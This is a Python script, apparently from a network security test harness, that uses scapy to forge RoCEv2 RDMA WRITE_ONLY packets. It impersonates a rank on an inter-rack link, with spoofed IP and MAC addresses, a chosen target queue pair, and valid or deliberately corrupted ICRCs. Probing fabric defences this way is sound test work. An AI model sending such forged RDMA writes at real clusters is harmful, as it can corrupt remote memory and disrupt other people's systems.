#!/usr/bin/python3
"""Sends forged RoCEv2 RC RDMA WRITE_ONLY packets, built by scapy, out of an interface: a host on
an inter-rack link pretending to be a rank.
  forge_write.py IFACE SRC_IP DST_IP DQPN PSN PAYLOAD_BYTES COUNT good|bad [SRC_MAC]
good: scapy's ICRC; bad: the same ICRC with its bits flipped. SRC_MAC: the Ethernet source (by
default one no host has)."""
import os
import struct
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from roce_frames import frames as roce_frames  # noqa: E402
from scapy.all import sendp  # noqa: E402

WRITE_ONLY = 0x0A


def main(argv):
    if len(argv) not in (9, 10) or argv[8] not in ("good", "bad"):
        print(__doc__, file=sys.stderr)
        return 2
    iface, src_ip, dst_ip = argv[1:4]
    dqpn, psn, size, count, kind = int(argv[4], 0), int(argv[5], 0), int(argv[6]), int(argv[7]), argv[8]
    reth = struct.pack(">QII", 0x7F0000000000, 0x1234, size)  # virtual address, rkey, DMA length
    mac = {"src_mac": argv[9]} if len(argv) == 10 else {}
    sendp(roce_frames(src_ip, dst_ip, dqpn, psn, count, kind, WRITE_ONLY, reth + bytes([0x5A]) * size, ip_id=0x5000,
                      **mac), iface=iface, verbose=False)
    print(f"sent {count} WRITE_ONLY packets from {src_ip} with {kind} ICRCs to QPN {dqpn:#x} at {dst_ip} via {iface}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
